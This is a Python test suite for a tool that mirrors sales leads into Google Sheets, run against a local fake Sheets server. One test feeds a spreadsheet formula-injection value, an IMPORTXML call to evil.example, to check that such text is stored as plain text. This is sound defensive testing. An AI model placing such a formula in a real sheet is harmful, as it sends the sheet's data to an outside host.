"""SheetMirror through the real gspread + google-auth against the local Sheets fake.

Nothing is mocked: every test goes over HTTP to tests/fixtures/sheets_fake.py,
which verifies the service account's JWT signature and keeps the sheet in memory.
"""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator, Callable
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import pytest

from agent.core.models import Category, Lead, Priority, State
from agent.errors import ConfigError, PermanentError, TransientError
from agent.mirror.check import check
from agent.mirror.credentials import load_credentials
from agent.mirror.rows import DEFAULT_COLUMNS
from agent.mirror.sheets import SheetMirror
from tests.fixtures.sheets_fake import *  # noqa: F403
from tests.fixtures.sheets_fake import SheetsFake

WHEN = datetime(2026, 3, 4, 5, 6, 7, tzinfo=UTC)


def make_lead(n: int, **overrides: Any) -> Lead:
    fields: dict[str, Any] = dict(
        id=f"lead-{n:05d}",
        name=f"Person {n}",
        email=f"person{n}@example.com",
        email_norm=f"person{n}@example.com",
        message="Hello, I want a quote",
        intake="webhook",
        state=State.SAVED,
        created_at=WHEN + timedelta(seconds=n),
        updated_at=WHEN,
        source="website",
        category=Category.SALES,
        priority=Priority.MEDIUM,
        summary=f"Wants a quote ({n})",
    )
    fields.update(overrides)
    return Lead(**fields)


MirrorFactory = Callable[..., SheetMirror]


@pytest.fixture
async def make_mirror(
    fresh_sheets: SheetsFake, service_account_info: dict[str, str]
) -> AsyncIterator[MirrorFactory]:
    """Build mirrors pointed at the fake, with fast backoff; all closed at the end."""
    made: list[SheetMirror] = []

    def factory(**kw: Any) -> SheetMirror:
        opts: dict[str, Any] = dict(
            credentials_info=service_account_info,
            spreadsheet="sheet-key-1",
            endpoint=fresh_sheets.endpoint,
            flush_seconds=0.05,
            batch_size=50,
            timeout=5.0,
            backoff_base=0.01,
            cooldown_seconds=0.5,
        )
        opts.update(kw)
        m = SheetMirror(**opts)
        made.append(m)
        return m

    yield factory
    for m in made:
        await m.close()


def data_rows(server: SheetsFake) -> list[list[str]]:
    return server.rows("sheet-key-1", "Leads")[1:]


async def test_rows_appear_with_values_in_order(make_mirror: MirrorFactory, fresh_sheets: SheetsFake) -> None:
    m = make_mirror()
    await m.start()
    assert "Leads" in fresh_sheets.worksheet_titles()  # created: the fake starts with Sheet1 only
    await m.mirror(make_lead(1, category=Category.SUPPORT, priority=Priority.HIGH))
    await m.mirror(make_lead(2, source=None))
    rows = fresh_sheets.rows("sheet-key-1", "Leads")
    assert rows[0] == DEFAULT_COLUMNS
    assert rows[1] == [
        "2026-03-04T05:06:08Z", "Person 1", "person1@example.com", "Soporte", "Alta",
        "Wants a quote (1)", "website", "lead-00001",
    ]
    assert rows[2] == [
        "2026-03-04T05:06:09Z", "Person 2", "person2@example.com", "Ventas", "Media",
        "Wants a quote (2)", "", "lead-00002",
    ]
    assert set(fresh_sheets.value_input_options) == {"RAW"}
    # minimal scope: spreadsheets only, no Drive
    assert fresh_sheets.scopes == ["https://www.googleapis.com/auth/spreadsheets"]
    assert m.health().as_json() == {"state": "ok", "reason": None, "pending": 0}


async def test_received_at_is_converted_to_utc_and_labels_are_configurable(
    make_mirror: MirrorFactory, fresh_sheets: SheetsFake
) -> None:
    m = make_mirror(
        columns=["id", "received_at", "category", "priority"],
        category_labels={"sales": "Sales"}, priority_labels={"medium": "Medium"},
    )
    lead = make_lead(1, created_at=datetime(2026, 1, 1, 12, 0, tzinfo=timezone(timedelta(hours=-3))))
    await m.mirror(lead)  # without start(): opens lazily
    assert fresh_sheets.rows()[1] == ["lead-00001", "2026-01-01T15:00:00Z", "Sales", "Medium"]


async def test_spreadsheet_by_url(make_mirror: MirrorFactory, fresh_sheets: SheetsFake) -> None:
    m = make_mirror(spreadsheet="https://docs.google.com/spreadsheets/d/sheet-key-1/edit#gid=0")
    await m.mirror(make_lead(1))
    assert len(data_rows(fresh_sheets)) == 1


async def test_header_is_written_once(make_mirror: MirrorFactory, fresh_sheets: SheetsFake) -> None:
    first = make_mirror()
    await first.start()
    await first.mirror(make_lead(1))
    await first.close()
    second = make_mirror()
    await second.start()
    await second.mirror(make_lead(2))
    rows = fresh_sheets.rows()
    assert [r for r in rows if r == DEFAULT_COLUMNS] == [DEFAULT_COLUMNS]
    assert rows[0] == DEFAULT_COLUMNS and len(rows) == 3
    assert fresh_sheets.calls["values_update"] == 1
    assert fresh_sheets.calls["batch_update"] == 1  # worksheet created once


async def test_formula_looking_and_unicode_text_stays_as_sent(
    make_mirror: MirrorFactory, fresh_sheets: SheetsFake
) -> None:
    nasty = ['=IMPORTXML("https://evil.example/?q="&A1,"//a")', "+1 555 0100", "@SUM(A1:A9)",
             "-2+3", "José Ñandú 北京 🙂", "0042"]
    m = make_mirror(columns=["id", "name", "summary", "source", "company", "phone", "subject"])
    lead = make_lead(1, name=nasty[0], summary=nasty[1], source=nasty[2], company=nasty[3],
                     phone=nasty[4], subject=nasty[5])
    await m.mirror(lead)
    assert fresh_sheets.rows()[1] == ["lead-00001", *nasty]
    assert fresh_sheets.cell_kinds()[1] == ["text"] * 7


async def test_fake_can_tell_user_entered_from_raw(fresh_sheets: SheetsFake,
                                                   service_account_info: dict[str, str]) -> None:
    """Guard for the test above: the fake really would turn USER_ENTERED "=..." into a formula."""
    import gspread
    from google.oauth2 import service_account

    from agent.mirror.endpoint import http_client_for

    creds = service_account.Credentials.from_service_account_info(
        service_account_info, scopes=["https://www.googleapis.com/auth/spreadsheets"])
    gc = gspread.Client(auth=creds, http_client=http_client_for(fresh_sheets.endpoint))
    gc.set_timeout(5)

    def run() -> None:
        ws = gc.open_by_key("sheet-key-1").sheet1
        ws.append_rows([["=1+1", "+1 555", "12"]], value_input_option="USER_ENTERED")

    await asyncio.to_thread(run)
    assert fresh_sheets.cell_kinds("sheet-key-1", "Sheet1") == [["formula", "formula", "number"]]


async def test_long_cells_are_cut_to_50000(make_mirror: MirrorFactory, fresh_sheets: SheetsFake) -> None:
    m = make_mirror(columns=["id", "message"])
    await m.mirror(make_lead(1, message="x" * 60_000))
    assert len(fresh_sheets.rows()[1][1]) == 50_000


async def test_429_twice_then_success_gives_one_row(make_mirror: MirrorFactory, fresh_sheets: SheetsFake) -> None:
    m = make_mirror()
    await m.start()
    fresh_sheets.script("values_append", "429", times=2, retry_after="0")
    await m.mirror(make_lead(1))
    assert len(data_rows(fresh_sheets)) == 1
    assert fresh_sheets.calls["values_append"] == 3
    assert fresh_sheets.statuses["429"] == 2
    assert m.health().as_json()["state"] == "ok"


async def test_5xx_is_retried(make_mirror: MirrorFactory, fresh_sheets: SheetsFake) -> None:
    m = make_mirror()
    await m.start()
    fresh_sheets.script("values_append", "503", times=1)
    await m.mirror(make_lead(1))
    assert len(data_rows(fresh_sheets)) == 1


async def test_unknown_outcome_append_applied_response_lost(
    make_mirror: MirrorFactory, fresh_sheets: SheetsFake
) -> None:
    m = make_mirror()
    await m.start()
    gets_before = fresh_sheets.calls["values_get"]
    fresh_sheets.script("values_append", "drop_after_apply", times=1)
    await m.mirror(make_lead(1))
    assert fresh_sheets.statuses["dropped"] == 1
    assert [r[-1] for r in data_rows(fresh_sheets)] == ["lead-00001"]
    assert fresh_sheets.calls["values_append"] == 1  # the re-read found it: not sent again
    assert fresh_sheets.calls["values_get"] == gets_before + 1  # id column re-read once


async def test_unknown_outcome_not_applied_is_sent_again(
    make_mirror: MirrorFactory, fresh_sheets: SheetsFake
) -> None:
    m = make_mirror()
    await m.start()
    fresh_sheets.script("values_append", "drop", times=1)
    await asyncio.gather(m.mirror(make_lead(1)), m.mirror(make_lead(2)))
    assert [r[-1] for r in data_rows(fresh_sheets)] == ["lead-00001", "lead-00002"]
    assert fresh_sheets.calls["values_append"] == 2


async def test_restart_after_crash_adds_no_row(make_mirror: MirrorFactory, fresh_sheets: SheetsFake) -> None:
    """The row got in but the worker crashed before marking the lead mirrored."""
    first = make_mirror()
    await first.mirror(make_lead(1))
    await first.close()
    restarted = make_mirror(flush_seconds=3600)
    await restarted.start()
    appends = fresh_sheets.calls["values_append"]
    # known from the id column read at start: returns without waiting for any flush
    await asyncio.wait_for(restarted.mirror(make_lead(1)), 30)
    assert len(data_rows(fresh_sheets)) == 1
    assert fresh_sheets.calls["values_append"] == appends


async def test_restart_on_existing_sheet_with_other_column_order(
    make_mirror: MirrorFactory, fresh_sheets: SheetsFake
) -> None:
    fresh_sheets.add_worksheet("sheet-key-1", "Leads", [["id", "email"], ["lead-00007", "a@b.c"]])
    m = make_mirror()
    await m.start()
    await m.mirror(make_lead(7))
    assert fresh_sheets.calls["values_append"] == 0
    assert fresh_sheets.calls["values_update"] == 0  # header present: left alone


@pytest.mark.parametrize(
    ("mode", "state", "text"),
    [
        ("403", "permission_denied", "share the spreadsheet with leadbox@fake-project.iam.gserviceaccount.com"),
        ("404", "not_found", "spreadsheet not found"),
    ],
)
async def test_403_404_at_start_are_permanent(
    make_mirror: MirrorFactory, fresh_sheets: SheetsFake, mode: str, state: str, text: str
) -> None:
    m = make_mirror()
    fresh_sheets.script("metadata", mode, times=1)
    with pytest.raises(PermanentError, match=text):
        await m.start()
    assert m.health().as_json()["state"] == state
    assert text in m.health().as_json()["reason"]
    # fixed on the Google side: the next mirror reopens and works
    await m.mirror(make_lead(1))
    assert m.health().as_json()["state"] == "ok"
    assert len(data_rows(fresh_sheets)) == 1


@pytest.mark.parametrize(("mode", "state"), [("403", "permission_denied"), ("404", "not_found")])
async def test_403_404_on_append_are_permanent_and_not_retried(
    make_mirror: MirrorFactory, fresh_sheets: SheetsFake, mode: str, state: str
) -> None:
    m = make_mirror()
    await m.start()
    fresh_sheets.script("values_append", mode, times=1)
    with pytest.raises(PermanentError):
        await m.mirror(make_lead(1))
    assert m.health().as_json()["state"] == state
    assert fresh_sheets.calls["values_append"] == 1
    assert data_rows(fresh_sheets) == []


async def test_unknown_spreadsheet_key_is_not_found(make_mirror: MirrorFactory) -> None:
    m = make_mirror(spreadsheet="no-such-key")
    with pytest.raises(PermanentError, match="spreadsheet not found"):
        await m.start()
    assert m.health().as_json()["state"] == "not_found"


async def test_retries_are_bounded_then_transient_and_fast_fail(
    make_mirror: MirrorFactory, fresh_sheets: SheetsFake
) -> None:
    m = make_mirror(max_retries=2, cooldown_seconds=60)
    await m.start()
    fresh_sheets.script("values_append", "500", times=10)
    with pytest.raises(TransientError):
        await m.mirror(make_lead(1))
    assert fresh_sheets.calls["values_append"] == 3  # 1 + max_retries
    assert m.health().as_json()["state"] == "degraded"
    before = dict(fresh_sheets.calls)
    with pytest.raises(TransientError) as info:  # cooldown: no call at all
        await m.mirror(make_lead(2))
    assert info.value.retry_after is not None and info.value.retry_after > 0
    assert dict(fresh_sheets.calls) == before


async def test_server_down_then_back(make_mirror: MirrorFactory, fresh_sheets: SheetsFake) -> None:
    m = make_mirror(max_retries=1, cooldown_seconds=0)
    await m.start()
    fresh_sheets.stop()
    try:
        with pytest.raises(TransientError):
            await m.mirror(make_lead(1))
        assert m.health().as_json()["state"] == "degraded"
    finally:
        fresh_sheets.start()
    await m.mirror(make_lead(1))
    assert len(data_rows(fresh_sheets)) == 1
    assert m.health().as_json()["state"] == "ok"


async def test_start_while_down_then_mirror_opens_later(
    make_mirror: MirrorFactory, fresh_sheets: SheetsFake
) -> None:
    m = make_mirror()
    fresh_sheets.stop()
    try:
        with pytest.raises(TransientError):
            await m.start()
    finally:
        fresh_sheets.start()
    await m.mirror(make_lead(1))
    assert fresh_sheets.rows()[0] == DEFAULT_COLUMNS and len(data_rows(fresh_sheets)) == 1


@pytest.mark.slow
async def test_batch_flush_by_size(make_mirror: MirrorFactory, fresh_sheets: SheetsFake) -> None:
    m = make_mirror(batch_size=10, flush_seconds=3600, quiet_seconds=3600)
    await m.start()
    tasks = []
    for i in range(10):  # one at a time, so the flusher is already waiting on its timer
        tasks.append(asyncio.create_task(m.mirror(make_lead(i))))
        await asyncio.sleep(0.01)
    await asyncio.wait_for(asyncio.gather(*tasks), 30)  # the hour-long timer never fires
    assert fresh_sheets.calls["values_append"] == 1
    assert [r[-1] for r in data_rows(fresh_sheets)] == [f"lead-{i:05d}" for i in range(10)]


async def test_batch_flush_by_time(make_mirror: MirrorFactory, fresh_sheets: SheetsFake) -> None:
    m = make_mirror(batch_size=1000, flush_seconds=0.2)
    await m.start()
    await m.mirror(make_lead(1))  # would hang (test timeout) if only size flushed
    assert fresh_sheets.calls["values_append"] == 1
    assert len(data_rows(fresh_sheets)) == 1


async def test_a_burst_is_written_when_no_more_rows_come(make_mirror: MirrorFactory, fresh_sheets: SheetsFake) -> None:
    # Neither full nor due: the hour-long timer never fires, the quiet period ends the batch.
    m = make_mirror(batch_size=1000, flush_seconds=3600, quiet_seconds=0.05)
    await m.start()
    futures = [m.submit(make_lead(i)) for i in range(7)]  # submit returns at once
    assert m.health().as_json()["pending"] == 7 and not any(f.done() for f in futures)
    await asyncio.wait_for(asyncio.gather(*futures), 30)
    assert fresh_sheets.calls["values_append"] == 1
    assert [r[-1] for r in data_rows(fresh_sheets)] == [f"lead-{i:05d}" for i in range(7)]


async def test_concurrent_mirror_of_same_lead_writes_one_row(
    make_mirror: MirrorFactory, fresh_sheets: SheetsFake
) -> None:
    m = make_mirror()
    await m.start()
    await asyncio.gather(*(m.mirror(make_lead(1)) for _ in range(5)))
    assert len(data_rows(fresh_sheets)) == 1


async def test_known_emails(make_mirror: MirrorFactory, fresh_sheets: SheetsFake) -> None:
    fresh_sheets.add_worksheet(
        "sheet-key-1", "Leads",
        [DEFAULT_COLUMNS, ["", "A", "  Ana@Example.COM "], ["", "B", "bob@example.com"], ["", "C", ""],
         ["", "D", "not an email"]],
    )
    m = make_mirror()
    await m.start()
    assert await m.known_emails() == {"ana@example.com", "bob@example.com"}


async def test_known_emails_finds_the_column_by_header(
    make_mirror: MirrorFactory, fresh_sheets: SheetsFake
) -> None:
    fresh_sheets.add_worksheet("sheet-key-1", "Leads", [["Name", "Email", "id"], ["A", "x@y.z", "1"]])
    m = make_mirror()
    assert await m.known_emails() == {"x@y.z"}


async def test_sync_work_never_blocks_the_loop(make_mirror: MirrorFactory, fresh_sheets: SheetsFake) -> None:
    m = make_mirror()
    await m.start()
    fresh_sheets.script("values_append", "slow", times=1, delay=1.0)
    ticks_while_slow = 0
    done = asyncio.Event()

    async def ticker() -> None:
        nonlocal ticks_while_slow
        while not done.is_set():
            if fresh_sheets.in_slow:
                ticks_while_slow += 1
            await asyncio.sleep(0.01)

    t = asyncio.create_task(ticker())
    await m.mirror(make_lead(1))
    done.set()
    await t
    assert ticks_while_slow > 0  # the loop ran while gspread waited on the fake


async def test_timeout_then_unknown_outcome_no_duplicate(
    make_mirror: MirrorFactory, fresh_sheets: SheetsFake
) -> None:
    m = make_mirror(timeout=0.3)
    await m.start()
    fresh_sheets.script("values_append", "slow", times=1, delay=1.0)  # applied, answer too late
    await m.mirror(make_lead(1))
    assert len(data_rows(fresh_sheets)) == 1


async def test_close_flushes_pending(make_mirror: MirrorFactory, fresh_sheets: SheetsFake) -> None:
    m = make_mirror(flush_seconds=3600, batch_size=100)
    await m.start()
    task = asyncio.create_task(m.mirror(make_lead(1)))
    await asyncio.sleep(0)
    assert m.health().as_json()["pending"] == 1
    await m.close()
    await task
    assert len(data_rows(fresh_sheets)) == 1
    assert m.health().as_json()["state"] == "disabled"
    with pytest.raises(TransientError):
        await m.mirror(make_lead(2))


async def test_close_lets_a_batch_being_retried_finish(make_mirror: MirrorFactory, fresh_sheets: SheetsFake) -> None:
    # The pipeline no longer waits for rows, so SIGTERM can come with rows still queued and their
    # append failing: close() gives the retries their time (bounded by close_timeout) instead of
    # dropping the batch at the first failure.
    m = make_mirror(backoff_base=0.3, close_timeout=10)
    await m.start()
    fresh_sheets.script("values_append", "500", times=1)
    row = m.submit(make_lead(1))
    await m.close()  # at once: the first append fails while closing
    assert fresh_sheets.statuses["500"] == 1
    assert row.done() and row.exception() is None
    assert [r[-1] for r in data_rows(fresh_sheets)] == ["lead-00001"]


async def test_check_reports_title_worksheet_header(make_mirror: MirrorFactory, fresh_sheets: SheetsFake) -> None:
    await make_mirror().start()
    result = await check(make_mirror())
    assert result["title"] == "Leads"
    assert result["worksheet"] == "Leads"
    assert result["header"] == DEFAULT_COLUMNS and result["header_matches"] is True


async def test_check_is_read_only(make_mirror: MirrorFactory, fresh_sheets: SheetsFake) -> None:
    with pytest.raises(PermanentError, match="worksheet 'Leads' not found"):
        await check(make_mirror())
    assert "Leads" not in fresh_sheets.worksheet_titles()


async def test_bad_key_is_refused_by_token_endpoint(
    make_mirror: MirrorFactory, service_account_info: dict[str, str]
) -> None:
    from tests.fixtures.sheets_fake import make_service_account

    other = make_service_account(_NoRegister(), "x@y.z")  # type: ignore[arg-type]
    info = dict(service_account_info, private_key=other["private_key"])  # signature will not verify
    m = make_mirror(credentials_info=info)
    with pytest.raises(PermanentError, match="credentials"):
        await m.start()
    assert m.health().as_json()["state"] == "permission_denied"


class _NoRegister:
    """Stands in for the server when we want a key the fake does not trust."""

    token_uri = "http://127.0.0.1:9/token"

    def register_key(self, client_email: str, public_key: Any) -> None:
        return None


# ----- configuration ---------------------------------------------------------

def test_load_credentials_from_json_and_file(service_account_info: dict[str, str], tmp_path: Path) -> None:
    text = json.dumps(service_account_info)
    assert load_credentials(text, None)["client_email"] == service_account_info["client_email"]
    f = tmp_path / "sa.json"
    f.write_text(text)
    assert load_credentials(None, str(f))["private_key"] == service_account_info["private_key"]
    assert load_credentials("  ", str(f))["client_email"]  # empty env var falls through to the file


@pytest.mark.parametrize(
    ("json_text", "path", "names"),
    [
        (None, None, "GOOGLE_CREDENTIALS_JSON"),
        ("{not json", None, "GOOGLE_CREDENTIALS_JSON"),
        (None, "/nonexistent/sa.json", "sheets.credentials_file"),
        ('{"type": "authorized_user"}', None, "GOOGLE_CREDENTIALS_JSON"),
    ],
)
def test_load_credentials_errors_name_the_setting(json_text: str | None, path: str | None, names: str) -> None:
    with pytest.raises(ConfigError, match=names):
        load_credentials(json_text, path)


def test_broken_private_key_is_not_echoed(service_account_info: dict[str, str]) -> None:
    secret = "-----BEGIN PRIVATE KEY-----\nTOPSECRETMATERIAL\n-----END PRIVATE KEY-----\n"
    with pytest.raises(ConfigError) as info:
        load_credentials(json.dumps(dict(service_account_info, private_key=secret)), None)
    assert "TOPSECRET" not in str(info.value)
    assert "GOOGLE_CREDENTIALS_JSON" in str(info.value)
    real = service_account_info["private_key"]
    with pytest.raises(ConfigError) as info2:
        load_credentials(json.dumps(service_account_info)[:-5], None)
    assert real[40:80] not in str(info2.value)


def test_columns_must_be_known_and_include_id(service_account_info: dict[str, str]) -> None:
    with pytest.raises(ConfigError, match="sheets.columns"):
        SheetMirror(credentials_info=service_account_info, spreadsheet="k", columns=["id", "shoe_size"])
    with pytest.raises(ConfigError, match="id"):
        SheetMirror(credentials_info=service_account_info, spreadsheet="k", columns=["name"])


async def test_known_emails_without_an_email_column_is_a_config_error(
    make_mirror: MirrorFactory, fresh_sheets: SheetsFake
) -> None:
    m = make_mirror(columns=["id", "name"])
    with pytest.raises(ConfigError, match="email"):
        await m.known_emails()


async def test_optional_mailbox_column(make_mirror: MirrorFactory, fresh_sheets: SheetsFake) -> None:
    """inbox.mailboxes: the sheet can show which mailbox a lead wrote to (empty for webhook leads)."""
    m = make_mirror(columns=["id", "mailbox", "intake"])
    await m.mirror(make_lead(1, mailbox="ventas", intake="email"))
    await m.mirror(make_lead(2))
    rows = fresh_sheets.rows()
    assert rows[1][:2] == ["lead-00001", "ventas"] and rows[2][:2] == ["lead-00002", ""]
